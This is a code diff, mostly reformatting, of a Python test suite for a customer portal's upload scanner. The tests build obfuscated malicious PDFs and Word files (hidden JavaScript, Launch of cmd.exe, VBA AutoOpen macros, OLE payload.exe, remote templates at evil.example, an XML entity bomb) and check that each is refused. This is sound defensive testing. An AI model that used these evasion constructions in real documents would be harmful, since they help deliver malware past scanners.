@@ -21,9 +21,9 @@ import pytest
 from fpdf import FPDF
 
 from clientcenter.models import Document
+from clientcenter.services.files.scanning import basic_scan
 from clientcenter.services.portal import documents
 from clientcenter.services.portal.documents import UploadRefused
-from clientcenter.services.files.scanning import basic_scan
 from clientcenter.settings import reset_settings_cache
 from tests.selfservice_helpers import PNG_1PX, sample_docx, sample_pdf
 from tests.selfservice_support import customer, table_counts
@@ -41,12 +41,17 @@ def clamd_scan(data: bytes, content_type: str):
 
 # --- PDF builders ---------------------------------------------------------------------------
 
+
 def raw_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
     """A well-formed PDF (correct xref) from object bodies; objects 4… are ``more``."""
-    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
-               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> "
-               + page_extra + b" >>", *more]
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> "
+        + page_extra
+        + b" >>",
+        *more,
+    ]
     out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
     offsets = []
     for number, body in enumerate(objects, 1):
@@ -56,15 +61,20 @@ def raw_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -
     out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
     out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
     out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
-        len(objects) + 1, xref)
+        len(objects) + 1,
+        xref,
+    )
     return out
 
 
 def js_in_object_stream() -> bytes:
     pdf = pikepdf.new()
     pdf.add_blank_page()
-    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
-        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('https://x.example')")))
+    pdf.Root.OpenAction = pdf.make_indirect(
+        pikepdf.Dictionary(
+            S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('https://x.example')")
+        )
+    )
     out = io.BytesIO()
     pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
     data = out.getvalue()
@@ -73,43 +83,76 @@ def js_in_object_stream() -> bytes:
 
 
 EVIL_PDFS = {
-    "J#61vaScript": (raw_pdf(b"/OpenAction 4 0 R", b"",
-                             b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
-                     "runs a script when it is opened"),
-    "L#61unch": (raw_pdf(b"", b"/Annots [4 0 R]",
-                         b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] "
-                         b"/A << /S /L#61unch /F (cmd.exe) >> >>"),
-                 "starts a program (Launch)"),
-    "#45mbeddedFiles": (raw_pdf(b"/Names << /#45mbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
-                                b"",
-                                b"<< /Type /Filespec /F (a.exe) /#45F << /F 5 0 R >> >>",
-                                b"<< /Type /#45mbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
-                        "embedded files"),
-    "JavaScript in a FlateDecode object stream": (js_in_object_stream(),
-                                                  "runs a script when it is opened"),
-    "JavaScript name tree": (raw_pdf(b"/Names << /J#61vaScript << /Names [(x) 4 0 R] >> >>",
-                                     b"", b"<< /S /JavaScript /JS (1) >>"),
-                             "scripts (JavaScript)"),
-    "OpenAction /URI": (raw_pdf(b"/OpenAction << /S /URI /URI (https://collect.example/?id=1) >>"),
-                        "opens a web address when it is opened"),
-    "page /AA SubmitForm": (raw_pdf(b"", b"/AA << /O << /S /SubmitForm /F (https://x.example) "
-                                        b">> >>"),
-                            "sends form data away by itself"),
-    "OpenAction GoToR via /Next": (raw_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] "
-                                           b"/Next 4 0 R >>", b"",
-                                           b"<< /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) "
-                                           b"/D [0 /Fit] >>"),
-                                   "opens another file when it is opened"),
-    "FileAttachment annotation": (raw_pdf(b"", b"/Annots [4 0 R]",
-                                          b"<< /Type /Annot /Subtype /FileAttachment "
-                                          b"/Rect [0 0 9 9] >>"),
-                                  "embedded files"),
-    "RichMedia": (raw_pdf(b"", b"/Annots [4 0 R]",
-                          b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
-                  "rich media"),
-    "XFA": (raw_pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"",
-                    b"<< /Length 7 >>\nstream\n<xdp/>\n\nendstream"),
-            "XFA form"),
+    "J#61vaScript": (
+        raw_pdf(b"/OpenAction 4 0 R", b"", b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
+        "runs a script when it is opened",
+    ),
+    "L#61unch": (
+        raw_pdf(
+            b"",
+            b"/Annots [4 0 R]",
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] "
+            b"/A << /S /L#61unch /F (cmd.exe) >> >>",
+        ),
+        "starts a program (Launch)",
+    ),
+    "#45mbeddedFiles": (
+        raw_pdf(
+            b"/Names << /#45mbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
+            b"",
+            b"<< /Type /Filespec /F (a.exe) /#45F << /F 5 0 R >> >>",
+            b"<< /Type /#45mbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+        ),
+        "embedded files",
+    ),
+    "JavaScript in a FlateDecode object stream": (
+        js_in_object_stream(),
+        "runs a script when it is opened",
+    ),
+    "JavaScript name tree": (
+        raw_pdf(
+            b"/Names << /J#61vaScript << /Names [(x) 4 0 R] >> >>",
+            b"",
+            b"<< /S /JavaScript /JS (1) >>",
+        ),
+        "scripts (JavaScript)",
+    ),
+    "OpenAction /URI": (
+        raw_pdf(b"/OpenAction << /S /URI /URI (https://collect.example/?id=1) >>"),
+        "opens a web address when it is opened",
+    ),
+    "page /AA SubmitForm": (
+        raw_pdf(b"", b"/AA << /O << /S /SubmitForm /F (https://x.example) >> >>"),
+        "sends form data away by itself",
+    ),
+    "OpenAction GoToR via /Next": (
+        raw_pdf(
+            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",
+            b"",
+            b"<< /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >>",
+        ),
+        "opens another file when it is opened",
+    ),
+    "FileAttachment annotation": (
+        raw_pdf(
+            b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>"
+        ),
+        "embedded files",
+    ),
+    "RichMedia": (
+        raw_pdf(
+            b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"
+        ),
+        "rich media",
+    ),
+    "XFA": (
+        raw_pdf(
+            b"/AcroForm << /Fields [] /XFA 4 0 R >>",
+            b"",
+            b"<< /Length 7 >>\nstream\n<xdp/>\n\nendstream",
+        ),
+        "XFA form",
+    ),
 }
 
 
@@ -159,39 +202,60 @@ MAIN_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.docume
 
 
 def content_types(*overrides: tuple[str, str], defaults: tuple[tuple[str, str], ...] = ()) -> str:
-    items = [("rels", "application/vnd.openxmlformats-package.relationships+xml"),
-             ("xml", "application/xml"), ("png", "image/png"), *defaults]
+    items = [
+        ("rels", "application/vnd.openxmlformats-package.relationships+xml"),
+        ("xml", "application/xml"),
+        ("png", "image/png"),
+        *defaults,
+    ]
     body = "".join(f'<Default Extension="{e}" ContentType="{c}"/>' for e, c in items)
     body += f'<Override PartName="/word/document.xml" ContentType="{MAIN_CT}"/>'
     body += "".join(f'<Override PartName="{p}" ContentType="{c}"/>' for p, c in overrides)
-    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-            f"{body}</Types>")
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        f"{body}</Types>"
+    )
 
 
 def rels(*items: tuple[str, str, str | None]) -> str:
     body = "".join(
         f'<Relationship Id="rId{i}" Type="{t}" Target="{target}"'
-        + (f' TargetMode="{mode}"' if mode else "") + "/>"
-        for i, (t, target, mode) in enumerate(items, 10))
-    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-            f"{body}</Relationships>")
+        + (f' TargetMode="{mode}"' if mode else "")
+        + "/>"
+        for i, (t, target, mode) in enumerate(items, 10)
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"{body}</Relationships>"
+    )
 
 
-def docx(*, types: str | None = None, document_rels: str | None = None,
-         extra: dict[str, bytes | str] | None = None) -> bytes:
+def docx(
+    *,
+    types: str | None = None,
+    document_rels: str | None = None,
+    extra: dict[str, bytes | str] | None = None,
+) -> bytes:
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
         zf.writestr("[Content_Types].xml", types or content_types())
         zf.writestr("_rels/.rels", rels((f"{W}/officeDocument", "word/document.xml", None)))
-        zf.writestr("word/document.xml",
-                    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
-                    '2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body>'
-                    "</w:document>")
-        zf.writestr("word/_rels/document.xml.rels", document_rels or rels(
-            (f"{W}/hyperlink", "https://harborandmain.example/", "External"),
-            (f"{W}/image", "media/image1.png", None)))
+        zf.writestr(
+            "word/document.xml",
+            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
+            '2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body>'
+            "</w:document>",
+        )
+        zf.writestr(
+            "word/_rels/document.xml.rels",
+            document_rels
+            or rels(
+                (f"{W}/hyperlink", "https://harborandmain.example/", "External"),
+                (f"{W}/image", "media/image1.png", None),
+            ),
+        )
         zf.writestr("word/media/image1.png", PNG_1PX)
         for name, data in (extra or {}).items():
             zf.writestr(name, data)
@@ -214,8 +278,14 @@ def compound_file(streams: dict[str, bytes]) -> bytes:
                 entries.append({"name": part, "type": 1, "children": []})
                 entries[storages[parent]]["children"].append(storages[key])
             parent = key
-        entries.append({"name": path.split("/")[-1], "type": 2, "children": [],
-                        "data": streams[path].ljust(4096, b"\0")})
+        entries.append(
+            {
+                "name": path.split("/")[-1],
+                "type": 2,
+                "children": [],
+                "data": streams[path].ljust(4096, b"\0"),
+            }
+        )
         entries[storages[parent]]["children"].append(len(entries) - 1)
     dir_sectors = (len(entries) + 3) // 4
     sector = 1 + dir_sectors  # sector 0 is the FAT
@@ -230,33 +300,46 @@ def compound_file(streams: dict[str, bytes]) -> bytes:
             body += e["data"]
     assert len(fat) <= 128
     for e in entries:  # siblings as a right-leaning chain (all black): valid enough
-        kids = sorted(e["children"], key=lambda i: (len(entries[i]["name"]),
-                                                    entries[i]["name"].upper()))
+        kids = sorted(
+            e["children"], key=lambda i: (len(entries[i]["name"]), entries[i]["name"].upper())
+        )
         e["child"] = kids[0] if kids else nostream
         for a, b in zip(kids, kids[1:]):
             entries[a]["right"] = b
     directory = b""
     for e in entries:
         name = e["name"].encode("utf-16-le") + b"\0\0"
-        directory += (name.ljust(64, b"\0") + struct.pack("<HBB", len(name), e["type"], 1)
-                      + struct.pack("<III", nostream, e.get("right", nostream), e["child"])
-                      + b"\0" * 36 + struct.pack("<I", e.get("start", end))
-                      + struct.pack("<Q", len(e.get("data", b""))))
+        directory += (
+            name.ljust(64, b"\0")
+            + struct.pack("<HBB", len(name), e["type"], 1)
+            + struct.pack("<III", nostream, e.get("right", nostream), e["child"])
+            + b"\0" * 36
+            + struct.pack("<I", e.get("start", end))
+            + struct.pack("<Q", len(e.get("data", b"")))
+        )
     directory = directory.ljust(dir_sectors * 512, b"\0")
-    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
-              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
-              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
-              + struct.pack("<I", 0) + struct.pack("<I", free) * 108)
+    header = (
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+        + b"\0" * 16
+        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
+        + b"\0" * 6
+        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
+        + struct.pack("<I", 0)
+        + struct.pack("<I", free) * 108
+    )
     assert len(header) == 512
     fat_sector = b"".join(struct.pack("<I", v) for v in fat).ljust(512, b"\xff")
     return header + fat_sector + directory + body
 
 
-VBA_PROJECT = compound_file({
-    "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
-    "VBA/dir": b"\x01" * 16, "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00",
-    "VBA/ThisDocument": b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nEnd Sub\r\n",
-})
+VBA_PROJECT = compound_file(
+    {
+        "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
+        "VBA/dir": b"\x01" * 16,
+        "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00",
+        "VBA/ThisDocument": b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nEnd Sub\r\n',
+    }
+)
 OLE_OBJECT = compound_file({"\x01Ole10Native": b"\x10\x00\x00\x00payload.exe\0"})
 VBA_CT = "application/vnd.ms-office.vbaProject"
 
@@ -268,40 +351,82 @@ def test_the_test_compound_files_are_real_ole():
 
 
 EVIL_DOCX = {
-    "VBA renamed word/data.bin": (docx(
-        types=content_types(("/word/data.bin", VBA_CT)),
-        document_rels=rels((f"{MS}/vbaProject", "data.bin", None)),
-        extra={"word/data.bin": VBA_PROJECT}), "macros"),
-    "VBA as .bin by a Default content type": (docx(
-        types=content_types(defaults=(("bin", VBA_CT),)),
-        extra={"word/d%61ta.bin": b"not even OLE"}), "macros"),
-    "VBA hidden as a PNG (olevba)": (docx(extra={"word/media/image2.png": VBA_PROJECT}),
-                                     "macros"),
-    "word/embeddings/oleObject1.bin": (docx(
-        types=content_types(defaults=(
-            ("bin", "application/vnd.openxmlformats-officedocument.oleObject"),)),
-        document_rels=rels((f"{W}/oleObject", "embeddings/oleObject1.bin", None)),
-        extra={"word/embeddings/oleObject1.bin": OLE_OBJECT}), "embedded object or program"),
-    "an OLE object under a plain name": (docx(extra={"word/media/chart.emf": OLE_OBJECT}),
-                                         "embedded object or program (OLE)"),
-    "external attachedTemplate": (docx(
-        types=content_types(("/word/settings.xml", "application/vnd.openxmlformats-"
-                             "officedocument.wordprocessingml.settings+xml")),
-        extra={"word/settings.xml": "<w:settings xmlns:w='x'/>",
-               "word/_rels/settings.xml.rels": rels(
-                   (f"{W}/attachedTemplate", "https://evil.example/t.dotm", "External"))}),
-        "a template from another address (attachedTemplate)"),
-    "external frame": (docx(document_rels=rels((f"{W}/frame", "https://evil.example/f.html",
-                                                 "External"))), "a frame from another address"),
-    "remote image": (docx(document_rels=rels((f"{W}/image", "file://attacker/share/a.png",
-                                               "external"))), "a picture from another address"),
-    "macro-enabled main part (a .docm renamed)": (docx(types=content_types().replace(
-        MAIN_CT, "application/vnd.ms-word.document.macroEnabled.main+xml")), "macros"),
-    "ActiveX control": (docx(
-        types=content_types(("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")),
-        extra={"word/activeX/activeX1.xml": "<ax/>"}), "ActiveX"),
-    "embedded workbook with macros": (docx(extra={"word/embeddings/Sheet.xlsx": docx(
-        extra={"xl/vbaProject.bin": VBA_PROJECT})}), "macros"),
+    "VBA renamed word/data.bin": (
+        docx(
+            types=content_types(("/word/data.bin", VBA_CT)),
+            document_rels=rels((f"{MS}/vbaProject", "data.bin", None)),
+            extra={"word/data.bin": VBA_PROJECT},
+        ),
+        "macros",
+    ),
+    "VBA as .bin by a Default content type": (
+        docx(
+            types=content_types(defaults=(("bin", VBA_CT),)),
+            extra={"word/d%61ta.bin": b"not even OLE"},
+        ),
+        "macros",
+    ),
+    "VBA hidden as a PNG (olevba)": (docx(extra={"word/media/image2.png": VBA_PROJECT}), "macros"),
+    "word/embeddings/oleObject1.bin": (
+        docx(
+            types=content_types(
+                defaults=(("bin", "application/vnd.openxmlformats-officedocument.oleObject"),)
+            ),
+            document_rels=rels((f"{W}/oleObject", "embeddings/oleObject1.bin", None)),
+            extra={"word/embeddings/oleObject1.bin": OLE_OBJECT},
+        ),
+        "embedded object or program",
+    ),
+    "an OLE object under a plain name": (
+        docx(extra={"word/media/chart.emf": OLE_OBJECT}),
+        "embedded object or program (OLE)",
+    ),
+    "external attachedTemplate": (
+        docx(
+            types=content_types(
+                (
+                    "/word/settings.xml",
+                    "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
+                )
+            ),
+            extra={
+                "word/settings.xml": "<w:settings xmlns:w='x'/>",
+                "word/_rels/settings.xml.rels": rels(
+                    (f"{W}/attachedTemplate", "https://evil.example/t.dotm", "External")
+                ),
+            },
+        ),
+        "a template from another address (attachedTemplate)",
+    ),
+    "external frame": (
+        docx(document_rels=rels((f"{W}/frame", "https://evil.example/f.html", "External"))),
+        "a frame from another address",
+    ),
+    "remote image": (
+        docx(document_rels=rels((f"{W}/image", "file://attacker/share/a.png", "external"))),
+        "a picture from another address",
+    ),
+    "macro-enabled main part (a .docm renamed)": (
+        docx(
+            types=content_types().replace(
+                MAIN_CT, "application/vnd.ms-word.document.macroEnabled.main+xml"
+            )
+        ),
+        "macros",
+    ),
+    "ActiveX control": (
+        docx(
+            types=content_types(
+                ("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
+            ),
+            extra={"word/activeX/activeX1.xml": "<ax/>"},
+        ),
+        "ActiveX",
+    ),
+    "embedded workbook with macros": (
+        docx(extra={"word/embeddings/Sheet.xlsx": docx(extra={"xl/vbaProject.bin": VBA_PROJECT})}),
+        "macros",
+    ),
 }
 
 
@@ -314,11 +439,14 @@ def test_docx_evasions_are_refused_by_their_package(name):
 
 
 def test_entity_expansion_is_refused_not_expanded():
-    bomb = ('<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">'
-            + "".join(f'<!ENTITY {c} "{("&" + p + ";") * 10}">'
-                      for p, c in zip("abcdefgh", "bcdefghi"))
-            + ']><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-              '<Default Extension="x" ContentType="&i;"/></Types>')
+    bomb = (
+        '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">'
+        + "".join(
+            f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi")
+        )
+        + ']><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="x" ContentType="&i;"/></Types>'
+    )
     started = time.monotonic()
     verdict = basic_scan(docx(types=bomb), DOCX)
     assert verdict.status == "rejected" and "damaged" in verdict.reason
@@ -329,7 +457,8 @@ def test_damaged_and_ordinary_word_files():
     assert basic_scan(docx(), DOCX).status == "clean"  # hyperlink, image: fine
     assert basic_scan(sample_docx(), DOCX).status == "clean"
     assert basic_scan(b"PK\x03\x04 not really a zip", DOCX).reason.startswith(
-        "This Word file looks damaged")
+        "This Word file looks damaged"
+    )
     twice = io.BytesIO()
     with zipfile.ZipFile(twice, "w") as zf:
         zf.writestr("[Content_Types].xml", content_types())
@@ -338,11 +467,14 @@ def test_damaged_and_ordinary_word_files():
     assert "damaged" in basic_scan(twice.getvalue(), DOCX).reason
 
 
-@pytest.mark.parametrize("name,data", [
-    ("script.pdf", EVIL_PDFS["J#61vaScript"][0]),
-    ("letter.docx", EVIL_DOCX["VBA renamed word/data.bin"][0]),
-    ("letter.docx", EVIL_DOCX["external attachedTemplate"][0]),
-])
+@pytest.mark.parametrize(
+    "name,data",
+    [
+        ("script.pdf", EVIL_PDFS["J#61vaScript"][0]),
+        ("letter.docx", EVIL_DOCX["VBA renamed word/data.bin"][0]),
+        ("letter.docx", EVIL_DOCX["external attachedTemplate"][0]),
+    ],
+)
 def test_an_evasion_uploaded_by_a_customer_is_refused_and_stores_nothing(demo, name, data):
     pat = customer(demo, PAT)
     before = table_counts(demo)
@@ -395,8 +527,10 @@ class FakeClamd:
                     stream += self._read(conn, size)
                 self.streams.append(stream)
                 found = EICAR in stream
-                conn.sendall(self.reply or (b"stream: Eicar-Test-Signature FOUND\0" if found
-                                            else b"stream: OK\0"))
+                conn.sendall(
+                    self.reply
+                    or (b"stream: Eicar-Test-Signature FOUND\0" if found else b"stream: OK\0")
+                )
 
     def close(self):
         self.server.close()
@@ -455,7 +589,9 @@ def test_clamd_unreachable_or_failing_refuses_with_try_again(clamd, monkeypatch,
 
 def test_clamd_scan_is_a_configurable_scanner(clamd, monkeypatch, demo):
     clamd()
-    monkeypatch.setenv("CC_SECURITY__UPLOAD_SCANNER", "clientcenter.services.files.scanning:clamd_scan")
+    monkeypatch.setenv(
+        "CC_SECURITY__UPLOAD_SCANNER", "clientcenter.services.files.scanning:clamd_scan"
+    )
     reset_settings_cache()
     pat = customer(demo, PAT)
     item = documents.upload_document(demo, pat, original_name="ok.pdf", data=sample_pdf())
